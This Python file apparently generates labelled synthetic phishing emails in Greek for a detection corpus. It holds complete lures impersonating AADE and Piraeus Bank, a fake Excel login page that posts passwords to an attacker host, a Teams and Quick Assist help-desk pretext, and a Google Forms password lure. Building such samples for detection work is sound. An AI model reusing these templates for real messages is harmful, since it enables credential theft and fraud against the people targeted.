"""attack/32-36: Greek-language attacks."""
from lib import archive, docs, ids
from lib import bodies as B
from lib import systems as SY
from lib import util as U
from lib.mimekit import Part
from lib.registry import message

from ._common import S, W, outlook_alt


@message('attack', '32-el-aade-epistrofi-foroy-phpmailer')
def a32(m):
    m.when('2026-11-13 18:27:09', 'EET')
    m.frm = ('ΑΑΔΕ – myAADE', 'noreply@kosmimata-eleni.gr')
    m.to = [S['acc_gr']]
    m.subject = 'myAADE: Εγκρίθηκε επιστροφή φόρου 1.284,60 € – Απαιτείται επιβεβαίωση στοιχείων'
    r = m.rng
    m.msgid = '%s@kosmimata-eleni.gr' % U.alnum(r, 43, U.ALNUM)
    link = 'https://myaade-epistrofi.com/taxisnet/login?ref=EP-2026-558214'
    html = """<!DOCTYPE html><html lang="el"><head><meta charset="utf-8"></head>
<body style="margin:0;background:#f0f3f7;font-family:'Open Sans',Arial,sans-serif;color:#222;">
<table width="100%%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:22px 8px;">
<table width="600" cellpadding="0" cellspacing="0" style="background:#fff;">
<tr><td style="background:#003476;color:#fff;padding:16px 26px;"><span style="font-size:20px;font-weight:bold;">myAADE</span><br><span style="font-size:12px;">Ανεξάρτητη Αρχή Δημοσίων Εσόδων</span></td></tr>
<tr><td style="padding:24px 26px;font-size:14px;line-height:22px;">
<p>Αγαπητέ/ή φορολογούμενε,</p>
<p>Σας ενημερώνουμε ότι, μετά την εκκαθάριση των δηλώσεων ΦΠΑ του γ΄ τριμήνου 2026, προέκυψε πιστωτικό υπόλοιπο υπέρ της επιχείρησής σας ύψους <b>1.284,60 €</b>, το οποίο εγκρίθηκε για επιστροφή.</p>
<p>Για να πιστωθεί το ποσό στον τραπεζικό σας λογαριασμό, παρακαλούμε επιβεβαιώστε τα στοιχεία σας με τους κωδικούς TAXISnet έως τις <b>20/11/2026</b>. Μετά την παρέλευση της προθεσμίας το ποσό θα συμψηφιστεί με μελλοντικές οφειλές.</p>
<p style="text-align:center;padding:8px 0;"><a href="%s" style="background:#003476;color:#fff;text-decoration:none;padding:12px 26px;font-weight:bold;">Επιβεβαίωση στοιχείων επιστροφής</a></p>
<p>Με εκτίμηση,<br>Ανεξάρτητη Αρχή Δημοσίων Εσόδων<br>Διεύθυνση Εισπράξεων</p></td></tr>
<tr><td style="padding:12px 26px;font-size:11px;color:#777;border-top:1px solid #e5e5e5;">Το μήνυμα αυτό στάλθηκε αυτόματα. Παρακαλούμε μην απαντάτε.</td></tr>
</table></td></tr></table></body></html>
""" % link
    plain = ('Αγαπητέ/ή φορολογούμενε,\n\nμετά την εκκαθάριση των δηλώσεων ΦΠΑ του γ΄ τριμήνου 2026 προέκυψε πιστωτικό υπόλοιπο 1.284,60 €, '
             'το οποίο εγκρίθηκε για επιστροφή.\n\nΕπιβεβαιώστε τα στοιχεία σας με τους κωδικούς TAXISnet έως τις 20/11/2026:\n%s\n\n'
             'Ανεξάρτητη Αρχή Δημοσίων Εσόδων\n' % link)
    m.body = B.alt(B.text(plain, charset='utf-8', cte='base64'), B.html(html, charset='utf-8', cte='base64'), B.boundary(m, 'phpmailer'))
    m.meta.update(
        what='"myAADE" announces an approved VAT refund of € 1,284.60 that must be confirmed with TAXISnet credentials by 20/11',
        why='Tax-refund phishing: sent via PHPMailer from a compromised Greek jewellery shop\'s hosting (auth passes for kosmimata-eleni.gr), link to myaade-epistrofi.com harvesting TAXISnet credentials; AADE does not e-mail refund confirmations with login links.',
        other=['EP-2026-558214', '1.284,60 €'], delivery='cPanel/Exim shared hosting, PHPMailer (compromised WordPress)')
    return m.render(SY.cpanel, server='linux217.grserver-cloud.gr', ip='198.51.100.171', domain='kosmimata-eleni.gr',
                    user='noreply@kosmimata-eleni.gr', client='local', xmailer='PHPMailer 6.9.3 (https://github.com/PHPMailer/PHPMailer)',
                    uid=('1044', '1047'))


@message('attack', '33-el-piraeus-winbank-authenticator-ses')
def a33(m):
    m.when('2026-11-26 09:48:31', 'EET')
    m.frm = ('Τράπεζα Πειραιώς', 'ereport@piraeus-winbank.com')
    m.to = [S['acc_gr']]
    m.subject = 'winbank business: Απαιτείται επανενεργοποίηση του Piraeus Authenticator'
    m.msgid = SY.ses_msgid(m, 'eu-central-1')
    r = m.rng
    link = 'https://winbank-business.piraeus-auth.com/reactivate?session=%s' % U.hexs(r, 40)
    html = """<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body style="margin:0;background:#eef0f2;font-family:Arial,Helvetica,sans-serif;color:#2b2b2b;">
<table width="100%%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:20px 6px;">
<table width="600" cellpadding="0" cellspacing="0" style="background:#fff;">
<tr><td style="padding:18px 26px;border-bottom:3px solid #f5b300;"><span style="font-size:20px;font-weight:bold;color:#1d3b6f;">Τράπεζα Πειραιώς</span> <span style="color:#888;font-size:13px;">| winbank business</span></td></tr>
<tr><td style="padding:22px 26px;font-size:14px;line-height:22px;">
<p>Αξιότιμε πελάτη,</p>
<p>Στο πλαίσιο της αναβάθμισης των συστημάτων ασφαλείας της Τράπεζας Πειραιώς, η συσκευή που έχετε καταχωρίσει για την έγκριση συναλλαγών στο winbank business θα απενεργοποιηθεί στις <b>28/11/2026</b>.</p>
<p>Για να συνεχίσετε να εγκρίνετε πληρωμές μισθοδοσίας, προμηθευτών και ΦΠΑ χωρίς διακοπή, ολοκληρώστε την επανενεργοποίηση του Piraeus Authenticator:</p>
<p style="text-align:center;padding:6px 0;"><a href="%s" style="background:#1d3b6f;color:#fff;text-decoration:none;padding:12px 28px;font-weight:bold;border-radius:3px;">Επανενεργοποίηση τώρα</a></p>
<p>Η διαδικασία διαρκεί λιγότερο από 2 λεπτά. Θα χρειαστείτε τον κωδικό χρήστη (User ID), τον κωδικό πρόσβασης και τον κωδικό μιας χρήσης που θα λάβετε με SMS.</p>
<p>Με εκτίμηση,<br>Τράπεζα Πειραιώς</p></td></tr>
<tr><td style="padding:12px 26px;font-size:11px;color:#888;background:#f7f7f7;">Τράπεζα Πειραιώς Α.Ε., Αμερικής 4, 10564 Αθήνα. Αυτό είναι ένα αυτοματοποιημένο μήνυμα.</td></tr>
</table></td></tr></table></body></html>
""" % link
    plain = ('Αξιότιμε πελάτη,\n\nη συσκευή που έχετε καταχωρίσει για την έγκριση συναλλαγών στο winbank business θα απενεργοποιηθεί στις 28/11/2026.\n\n'
             'Επανενεργοποίηση του Piraeus Authenticator:\n%s\n\nΘα χρειαστείτε τον κωδικό χρήστη, τον κωδικό πρόσβασης και τον κωδικό μιας χρήσης (SMS).\n\n'
             'Τράπεζα Πειραιώς\n' % link)
    m.body = B.alt(B.text(plain, charset='UTF-8', cte='quoted-printable'), B.html(html, charset='UTF-8', cte='quoted-printable'), B.boundary(m, 'ses'))
    m.meta.update(
        what='"Piraeus Bank" says the winbank business approval device will be deactivated on 28/11 unless Piraeus Authenticator is reactivated',
        why='Banking credential + OTP phishing: look-alike piraeus-winbank.com via the attacker\'s Amazon SES account, asks for User ID, password and the SMS one-time code on piraeus-auth.com; Piraeus Bank never asks for codes by e-mail.',
        delivery='Amazon SES eu-central-1 (attacker account, look-alike domain)')
    return m.render(SY.ses, region='eu-central-1', dkim_d='piraeus-winbank.com')


@message('attack', '34-el-thessaliki-lookalike-po-html')
def a34(m):
    m.when('2026-12-07 10:05:47', 'EET')
    m.frm = ('Νίκος Αθανασίου', 'n.athanasiou@thessaliki-logistic.gr')
    m.to = [S['om_gr']]
    m.subject = 'Παραγγελία PO-2026-1147 – ανταλλακτικά & ελαστικά'
    m.hcs, m.hmode = 'iso-8859-7', 'B'
    m.msgid = SY.outlook_msgid(m, 'thessaliki-logistic.gr')
    txt = """Καλημέρα σας,

Σας αποστέλλουμε συνημμένη την παραγγελία μας PO-2026-1147 για ανταλλακτικά και ελαστικά για τα περονοφόρα της αποθήκης μας στη Σίνδο.

Παρακαλούμε επιβεβαιώστε διαθεσιμότητα, τιμές και χρόνο παράδοσης έως την Παρασκευή.

Ευχαριστώ,

Νίκος Αθανασίου
Υπεύθυνος Προμηθειών
Thessaliki Logistics Α.Ε.
ΒΙ.ΠΕ. Σίνδου, Οδός 12, 57022 Θεσσαλονίκη
Τηλ. 2310 797 410"""
    alt = outlook_alt(m, txt, charset='iso-8859-7', lang='EL', bstyle='outlook', idx=1, font='Calibri', size='11.0pt')
    action = 'https://docs-view.thessaliki-logistic.gr/excel/auth.php'
    page = """<!DOCTYPE html>
<html lang="el"><head><meta charset="utf-8"><title>PO-2026-1147.xlsx - Excel</title>
<style>body{margin:0;font-family:'Segoe UI',Arial,sans-serif;background:#f3f2f1}
.bar{background:#107c41;color:#fff;padding:10px 18px;font-size:15px}
.sheet{filter:blur(3px);margin:20px auto;width:860px;background:#fff;border:1px solid #ddd}
.sheet td{border:1px solid #e1e1e1;padding:6px 10px;font-size:13px}
.box{position:absolute;top:140px;left:50%;margin-left:-190px;width:380px;background:#fff;border:1px solid #ccc;box-shadow:0 2px 12px rgba(0,0,0,.25);padding:24px}
.box input{width:100%;box-sizing:border-box;padding:8px;margin:6px 0 12px 0;border:1px solid #8a8886}
.box button{background:#0067b8;color:#fff;border:0;padding:9px 22px;font-size:14px}</style></head>
<body><div class="bar">Excel &middot; PO-2026-1147.xlsx &middot; Thessaliki Logistics A.E.</div>
<table class="sheet"><tr><td>Α/Α</td><td>Κωδικός</td><td>Περιγραφή</td><td>Ποσότητα</td><td>Τιμή</td></tr>
<tr><td>1</td><td>TYR-18x7-8</td><td>Ελαστικό συμπαγές 18x7-8</td><td>16</td><td>-</td></tr>
<tr><td>2</td><td>FRK-1200-45</td><td>Περόνη 1200 mm κλάση ΙΙ</td><td>8</td><td>-</td></tr>
<tr><td>3</td><td>BAT-48-620</td><td>Μπαταρία έλξης 48V 620Ah</td><td>2</td><td>-</td></tr></table>
<div class="box"><b>Το έγγραφο είναι προστατευμένο</b><br><span style="font-size:13px;color:#555">Για να δείτε την παραγγελία, επιβεβαιώστε τον εταιρικό σας λογαριασμό email.</span>
<form method="post" action="@@ACTION@@">
<input type="email" name="login" value="eleni.papadopoulou@example.com" readonly>
<input type="password" name="passwd" placeholder="Κωδικός πρόσβασης">
<button type="submit">Προβολή εγγράφου</button></form></div></body></html>
""".replace('@@ACTION@@', action)
    att = B.att(page.encode('utf-8'), 'text/html', 'PO-2026-1147.html', style='outlook')
    m.body = B.mixed([alt, att], B.boundary(m, 'outlook', 0))
    m.meta.update(
        what='"Customer Thessaliki Logistics" sends purchase order PO-2026-1147 for spare parts as an HTML attachment',
        why='HTML-attachment credential phishing from look-alike thessaliki-logistic.gr (real: thessaliki-logistics.gr): the local HTML file shows a blurred "Excel" order behind a login box pre-filled with the recipient\'s address that posts the password to the attacker\'s server. No script.',
        phones=['2310 797 410'], other=['PO-2026-1147', 'PO-2026-1147.html'], delivery='Postfix on a rented VPS, Outlook 2016')
    return m.render(SY.generic, helo='mail.thessaliki-logistic.gr', ip='203.0.113.201', rdns='vps201.contabo-hosting.example',
                    dkim_d='thessaliki-logistic.gr', dkim_s='default', quote=True,
                    inner=['Received: from DESKTOP-H7F3K0P (unknown [203.0.113.9])\r\n\t(Authenticated sender: n.athanasiou@thessaliki-logistic.gr)\r\n\tby mail.thessaliki-logistic.gr (Postfix) with ESMTPSA id %QID%\r\n\tfor <eleni.papadopoulou@example.com>; %DATE%'],
                    order=['from', 'to', 'subject', 'date', 'message-id', 'mime-version', '*MIME*'], date_zone='EET',
                    extra=[('X-Mailer', 'Microsoft Outlook 16.0'), ('Thread-Index', SY.thread_index(m)), ('Content-Language', 'el')])


@message('attack', '35-el-helpdesk-teams-quick-assist')
def a35(m):
    m.when('2026-10-21 11:36:52', 'EET')
    m.frm = ('Example Group IT Service Desk', 'servicedesk@examplegroupit.onmicrosoft.com')
    m.to = [S['om_gr']]
    m.subject = 'Αυξημένος όγκος ανεπιθύμητων μηνυμάτων – θα σας καλέσουμε μέσω Microsoft Teams'
    m.dmarc_override['onmicrosoft.com'] = 'none'
    mb = SY.m365_server(m, 'eur')
    m.msgid = SY.m365_msgid(m, mb[1])
    phone = '+30 211 198 4472'
    txt = """Αγαπητή κυρία Παπαδοπούλου,

Τα συστήματα ασφαλείας μας εντόπισαν από σήμερα το πρωί μαζική αποστολή ανεπιθύμητων μηνυμάτων (spam) προς το γραμματοκιβώτιό σας. Πρόκειται για γνωστή επίθεση που στοχεύει χρήστες του Ομίλου.

Για να ενεργοποιήσουμε το νέο φίλτρο στον υπολογιστή σας, ένας τεχνικός της ομάδας IT θα σας καλέσει σήμερα μέσω Microsoft Teams με το όνομα «Help Desk – Example IT». Παρακαλούμε:

1. Αποδεχτείτε την κλήση στο Teams (ενδέχεται να εμφανιστεί ως «Εξωτερικός χρήστης»).
2. Ανοίξτε την εφαρμογή Quick Assist (Ctrl + Windows + Q) και πληκτρολογήστε τον κωδικό ασφαλείας που θα σας υπαγορεύσει ο τεχνικός.
3. Μην απενεργοποιήσετε τον υπολογιστή μέχρι να ολοκληρωθεί η ρύθμιση (περίπου 10 λεπτά).

Αν δεν είστε διαθέσιμη σήμερα, καλέστε μας στο %s.

Με εκτίμηση,
IT Service Desk
Example Group""" % phone
    m.body = outlook_alt(m, txt, charset='utf-8', lang='EL', bstyle='o365', idx=0)
    m.meta.update(
        what='"Example Group IT Service Desk" announces a Teams call to fix an e-mail flood and asks to open Quick Assist and enter the technician\'s code',
        why='Help-desk / remote-access pretext (Black Basta / Storm-1811 playbook: e-mail bombing, then an external Teams call and Quick Assist session): sent from an attacker-owned onmicrosoft.com tenant, warns that the call will show as "external", Greek mobile-looking call-back number; Example IT uses its ticket system and internal numbers.',
        phones=[phone], delivery='Microsoft 365 (attacker tenant examplegroupit.onmicrosoft.com)')
    return m.render(SY.m365, domain='examplegroupit.onmicrosoft.com', dkim_d='examplegroupit.onmicrosoft.com',
                    dkim_s='selector1-examplegroupit-onmicrosoft-com', mailbox=mb, lang='el-GR')


@message('attack', '36-el-google-forms-mailbox-verification')
def a36(m):
    m.when('2026-12-10 14:02:26', 'EET')
    m.frm = ('Example Group Webmail (μέσω Φορμών Google)', 'forms-receipts-noreply@google.com')
    m.reply_to = ('', 'examplegroup.helpdesk@gmail.com')
    m.to = [S['acc_gr']]
    m.subject = 'Επαλήθευση γραμματοκιβωτίου – Example Group'
    r = m.rng
    m.msgid = '%s@google.com' % ('0000000000' + U.hexs(r, 18))
    fid = '1FAIpQLS' + U.alnum(r, 48, U.ALNUM + '_-')
    link = 'https://docs.google.com/forms/d/e/%s/viewform?usp=mail_form_link' % fid
    abuse = 'https://docs.google.com/forms/d/e/%s/reportabuse?source=https://docs.google.com/forms/d/e/%s/viewform' % (fid, fid)
    desc = ('Το γραμματοκιβώτιό σας έχει φτάσει το 98% του διαθέσιμου χώρου και τα εισερχόμενα μηνύματα θα απορρίπτονται από τις 12/12/2026. '
            'Για να διατηρήσετε τα μηνύματά σας και να αυξηθεί το όριο χώρου, επιβεβαιώστε τον λογαριασμό σας συμπληρώνοντας τη φόρμα.')
    html = """<html><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8"></head><body>
<div style="font-family:Roboto,Arial,sans-serif;max-width:600px;margin:0 auto;">
<div style="padding:20px 0 8px 0;font-size:14px;color:#202124;">Σας προσκάλεσαν να συμπληρώσετε μια φόρμα:</div>
<div style="border:1px solid #dadce0;border-radius:8px;border-top:10px solid #673ab7;padding:20px 24px;">
<div style="font-size:24px;color:#202124;padding-bottom:10px;">Επαλήθευση γραμματοκιβωτίου – Example Group</div>
<div style="font-size:14px;color:#202124;line-height:20px;padding-bottom:16px;">%s</div>
<a href="%s" style="background:#673ab7;color:#fff;font-size:14px;font-weight:500;text-decoration:none;padding:10px 24px;border-radius:4px;display:inline-block;">ΣΥΜΠΛΗΡΩΣΗ ΦΟΡΜΑΣ</a></div>
<div style="font-size:12px;color:#5f6368;padding:16px 0;">Δημιουργήστε τη δική σας Φόρμα Google<br>Δεν αναγνωρίζετε αυτήν τη φόρμα; <a href="%s" style="color:#5f6368;">Αναφορά κατάχρησης</a></div>
<div style="font-size:11px;color:#9aa0a6;">Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043, USA</div></div></body></html>
""" % (desc, link, abuse.replace('&', '&amp;'))
    plain = ('Σας προσκάλεσαν να συμπληρώσετε μια φόρμα:\nΕπαλήθευση γραμματοκιβωτίου – Example Group\n\n%s\n\nΣΥΜΠΛΗΡΩΣΗ ΦΟΡΜΑΣ: %s\n\n'
             'Δημιουργήστε τη δική σας Φόρμα Google\nΑναφορά κατάχρησης: %s\n' % (desc, link, abuse))
    p1 = B.text(plain, charset='UTF-8', cte='base64').set_charset_fmt('"UTF-8"')
    p2 = B.html(html, charset='UTF-8', cte='quoted-printable').set_charset_fmt('"UTF-8"')
    for p in (p1, p2):
        p.ct_style = 'inline'
    m.body = B.alt(p1, p2, B.boundary(m, 'gmail'), ct_style='inline')
    m.meta.update(
        what='Google Forms invitation "Mailbox verification – Example Group": mailbox 98 % full, fill in the form to keep receiving mail',
        why='Webmail credential phishing hosted on Google Forms: the invitation is sent by Google itself (passes SPF/DKIM/DMARC for google.com), the form asks for the e-mail password; reply-to is a gmail.com "helpdesk". Example mailboxes are Exchange; IT never collects passwords in forms.',
        delivery='Google Forms invitation (abused legitimate platform)')
    return m.render(SY.generic, helo='mail-sor-f69.google.com', ip='209.85.220.69', dkim_d='google.com', dkim_s='20230601',
                    env_from='3CnRaZw0KCGcYgYeQTfXQHVZ-ZeX-TgaXQ%s@forms.bounces.google.com' % U.alnum(r, 12, 'abcdefghijklmnopqrstuvwxyz'),
                    tls=__import__('lib.msg', fromlist=['x']).TLS13_128, date_zone='PT', dkim_below=True,
                    order=['mime-version', 'reply-to', 'message-id', 'date', 'subject', 'from', 'to', '*MIME*'],
                    inner=['Received: by mail-sor-f69.google.com with SMTP id %s for <%s>;\r\n        %%DATE%%' % (U.alnum(r, 20, 'abcdef0123456789') + '.' + str(r.randrange(1, 9)), S['acc_gr'][1])])
